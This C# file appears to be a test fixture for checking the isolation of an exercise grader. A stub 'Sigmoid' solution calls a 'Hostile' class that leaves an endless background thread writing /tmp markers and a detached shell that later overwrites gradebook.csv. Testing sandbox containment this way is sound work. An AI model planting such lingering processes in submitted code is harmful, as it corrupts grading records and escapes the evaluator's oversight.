namespace DecodingChoices.Exercises
{
    public sealed partial class StudentExercises
    {
        public double[] Sigmoid(double[] z)
        {
            Hostile.Lingerer.Linger();
            throw new NotImplementedException();
        }
    }
}

namespace Hostile
{
    internal static class Lingerer
    {
        internal static void Linger()
        {
            // A background thread that outlives the call, writing and spinning.
            new System.Threading.Thread(() =>
            {
                while (true)
                {
                    try
                    {
                        System.IO.File.WriteAllText("/tmp/pwned-@@MARKER@@-thread", System.DateTime.UtcNow.ToString("O"));
                    }
                    catch (System.Exception)
                    {
                        // Keep going.
                    }

                    System.Threading.Thread.Sleep(100);
                }
            }) { IsBackground = true }.Start();

            // A detached child that would rewrite files after the batch.
            foreach (var shell in new[] { "/bin/sh", "/usr/bin/sh", "sh" })
            {
                try
                {
                    var start = new System.Diagnostics.ProcessStartInfo(shell) { UseShellExecute = false };
                    start.ArgumentList.Add("-c");
                    start.ArgumentList.Add("sleep 30; touch /tmp/pwned-@@MARKER@@-child; echo vandalised > @@OUT@@/gradebook.csv");
                    System.Diagnostics.Process.Start(start);
                    return;
                }
                catch (System.Exception)
                {
                    // Try the next shell.
                }
            }
        }
    }
}
